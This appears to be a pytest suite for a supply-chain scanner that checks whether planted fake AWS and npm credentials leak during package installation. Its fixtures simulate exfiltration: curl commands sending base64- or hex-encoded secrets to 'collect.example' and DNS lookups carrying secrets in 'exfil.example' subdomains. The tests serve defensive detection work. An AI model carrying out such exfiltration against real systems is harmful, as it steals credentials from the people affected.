"""A planted secret counts where its value turns up, and only there."""

import base64
import json
from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from scangate.models.analysis import OutcomeCode, Phase
from scangate.models.observations import BaitSeen

from .samples import ASSETS, REAL, analysed, b64, document, of, phase, refused

THING = "pkg:npm/thing@1.2.3"
KEY = "AKIAQ7T5N2WXMADEUP42"
SECRET = "m4deUp/Secret+Value0nlyF0rTests987654321"
PLANTED = [f"AWS_ACCESS_KEY_ID={KEY}", f"AWS_SECRET_ACCESS_KEY={SECRET}", "PATH=/bin"]


def _command(*argv: str, environment: object = PLANTED) -> dict[str, object]:
    return {"Command": list(argv), "Environment": environment}


def _harness(environment: object) -> dict[str, object]:
    return _command("node", "/usr/local/bin/analyze-node.js", "install", "thing", environment=environment)


def _seen(*commands: object, **fields: object) -> list[BaitSeen]:
    install = phase(Commands=[_command("sleep", "30m"), *commands], **fields)
    return of(BaitSeen, analysed(document(install=install), THING))


def _dns(*hosts: str) -> list[dict[str, object]]:
    return [{"Class": "IN", "Queries": [{"Hostname": host, "Types": ["A"]} for host in hosts]}]


def test_no_real_report_shows_one_in_spite_of_every_environment_holding_it() -> None:
    for path in REAL:
        assert of(BaitSeen, analysed(path.read_bytes())) == [], path.name


def test_in_the_environment_it_means_nothing() -> None:
    assert _seen(_command("node", "index.js"), _command("env")) == []


@pytest.mark.parametrize("value", [KEY, SECRET])
@pytest.mark.parametrize("offset", range(3))
@pytest.mark.parametrize("encode", [base64.b64encode, base64.urlsafe_b64encode])
def test_base64_at_each_alignment(value: str, offset: int, encode: object) -> None:
    assert callable(encode)
    sent = encode(("x" * offset + value + "tail").encode()).decode()
    (seen,) = _seen(_command("curl", "-d", sent, "https://collect.example"))
    assert (seen.encoding, seen.where, seen.phase) == ("base64", "argv", Phase.INSTALL)
    assert seen.bait == ("AWS_ACCESS_KEY_ID" if value == KEY else "AWS_SECRET_ACCESS_KEY")


@pytest.mark.parametrize(
    ("sent", "encoding"),
    [
        (KEY, "raw"),
        (f"key={KEY}&x", "raw"),
        (quote(SECRET, safe=""), "raw"),
        (SECRET.encode().hex(), "hex"),
        (KEY.encode().hex().upper(), "hex"),
    ],
)
def test_other_ways_to_write_it(sent: str, encoding: str) -> None:
    assert [seen.encoding for seen in _seen(_command("curl", f"https://collect.example/?{sent}"))] == [encoding]


@pytest.mark.parametrize("where", ["Stdout", "Stderr"])
def test_in_the_output(where: str) -> None:
    for said in (b64(f"env: {KEY}\n"), f"not base64, {KEY}"):
        (seen,) = _seen(**{where: said})
        assert (seen.where, seen.encoding) == (where.lower(), "raw")


def test_output_that_is_the_value_in_base64_and_nothing_else() -> None:
    encodings = {seen.encoding for seen in _seen(Stdout=base64.b64encode(SECRET.encode()).decode())}
    assert "raw" in encodings


@pytest.mark.parametrize(
    "hosts",
    [
        (f"{KEY.lower()}.exfil.example",),
        (f"{KEY[:9]}.{KEY[9:]}.exfil.example",),
        (SECRET.encode().hex()[:60] + ".exfil.example",),
        (f"1.{KEY[:13]}.exfil.example", f"2.{KEY[13:]}.exfil.example"),
        (base64.b64encode(KEY.encode()).decode().rstrip("=") + ".exfil.example",),
        (".".join(KEY) + ".exfil.example",),
    ],
)
def test_in_host_names_whatever_their_case_and_labels(hosts: tuple[str, ...]) -> None:
    seen = _seen(DNS=_dns(*hosts))
    assert {bait.where for bait in seen} == {"host"}
    assert {bait.bait for bait in seen} <= {"AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY"}


def test_a_socket_name_is_a_host_name_too() -> None:
    sockets = [{"Address": "198.18.0.1", "Port": 443, "Hostnames": [f"{KEY}.exfil.example"]}]
    assert [bait.where for bait in _seen(Sockets=sockets)] == ["host"]


def test_ordinary_hosts_and_words_are_not_taken_for_it() -> None:
    assert _seen(_command("echo", KEY[:10], "akia"), DNS=_dns("a.example", "very-long-but-ordinary-name.example")) == []


def test_the_value_of_one_phase_is_looked_for_in_the_others() -> None:
    other = "AKIAOTHERPHASEVALUE1"
    harness = _command("sleep", "30m", environment=[f"AWS_ACCESS_KEY_ID={other}"])
    install = phase(Commands=[_command("sleep", "30m")], Stdout=b64(other))
    imports = phase(Commands=[harness, _command("curl", KEY)])
    found = of(BaitSeen, analysed(document(install=install, imports=imports), THING))
    assert [(seen.phase, seen.where) for seen in found] == [(Phase.INSTALL, "stdout"), (Phase.IMPORT, "argv")]


def test_the_context_shows_the_place_and_not_the_value() -> None:
    (first, second) = _seen(_command("curl", "-d", "before " * 20 + f"a={KEY}&b={SECRET}" + " after" * 20))
    for seen in (first, second):
        assert KEY not in seen.context
        assert SECRET not in seen.context
        assert "*****" in seen.context
        assert len(seen.context) < 150
    assert first.context.startswith("before") or "before" in first.context
    (host,) = _seen(DNS=_dns(f"{KEY}.exfil.example"))
    assert host.context == "*" * len(KEY) + ".exfil.example"


def test_one_sighting_is_told_once() -> None:
    command = _command("curl", KEY + KEY)
    assert len(_seen(command, command)) == 1


def test_other_variables_count_where_the_harness_sets_them() -> None:
    planted = ["NPM_TOKEN=npm_made0up0value0000001", "GITHUB_TOKEN=short", "SECRET_PATH=/usr/lib/secrets/directory"]
    shown = _command("echo", "npm_made0up0value0000001", "short", "/usr/lib/secrets/directory", environment=None)
    assert [seen.bait for seen in _seen(_harness(planted), shown)] == ["NPM_TOKEN"]
    assert _seen(_command("node", "x.js", environment=planted), shown) == []


def test_a_package_may_hand_its_children_short_values_of_its_own() -> None:
    assert _seen(_command("node", environment=["AWS_ACCESS_KEY_ID=test"]), _command("echo", "test")) == []


def test_absurdly_many_planted_values_are_refused() -> None:
    commands = [_command("x", environment=[f"AWS_ACCESS_KEY_ID=AKIA{number:020}"]) for number in range(33)]
    shortfall = refused(document(install=phase(Commands=commands)), THING)
    assert (shortfall.code, "33 different secrets" in shortfall.detail) == (OutcomeCode.REPORT_INVALID, True)


def test_the_made_up_reports() -> None:
    made = {path.stem: of(BaitSeen, analysed(path.read_bytes())) for path in (ASSETS / "made").glob("*.json")}
    assert {name for name, seen in made.items() if seen} == {"npm-bait-in-request", "npm-dns-exfil"}


@given(st.text(min_size=16, max_size=40), st.text(max_size=20), st.text(max_size=20))
def test_whatever_the_value_it_is_found_between_whatever_else(value: str, before: str, after: str) -> None:
    install = phase(Commands=[_command("x", before + value + after, environment=[f"AWS_ACCESS_KEY_ID={value}"])])
    result = analysed(json.dumps(document(install=install)).encode(), THING)
    assert ("argv", "raw") in {(seen.where, seen.encoding) for seen in of(BaitSeen, result)}


@pytest.mark.parametrize("body", [f'{{"secret": "{SECRET}"}}', f"x={quote(SECRET, safe='')}", SECRET.encode().hex()])
def test_in_what_was_sent(body: str) -> None:
    (seen,) = _seen(Sent=[b64("nothing"), b64(body)])
    assert (seen.where, seen.bait) == ("sent", "AWS_SECRET_ACCESS_KEY")
    assert SECRET not in seen.context
    assert _seen(Sent=[b64("nothing")]) == []
    assert refused(document(install=phase(Sent="text")), THING).code is OutcomeCode.REPORT_INVALID
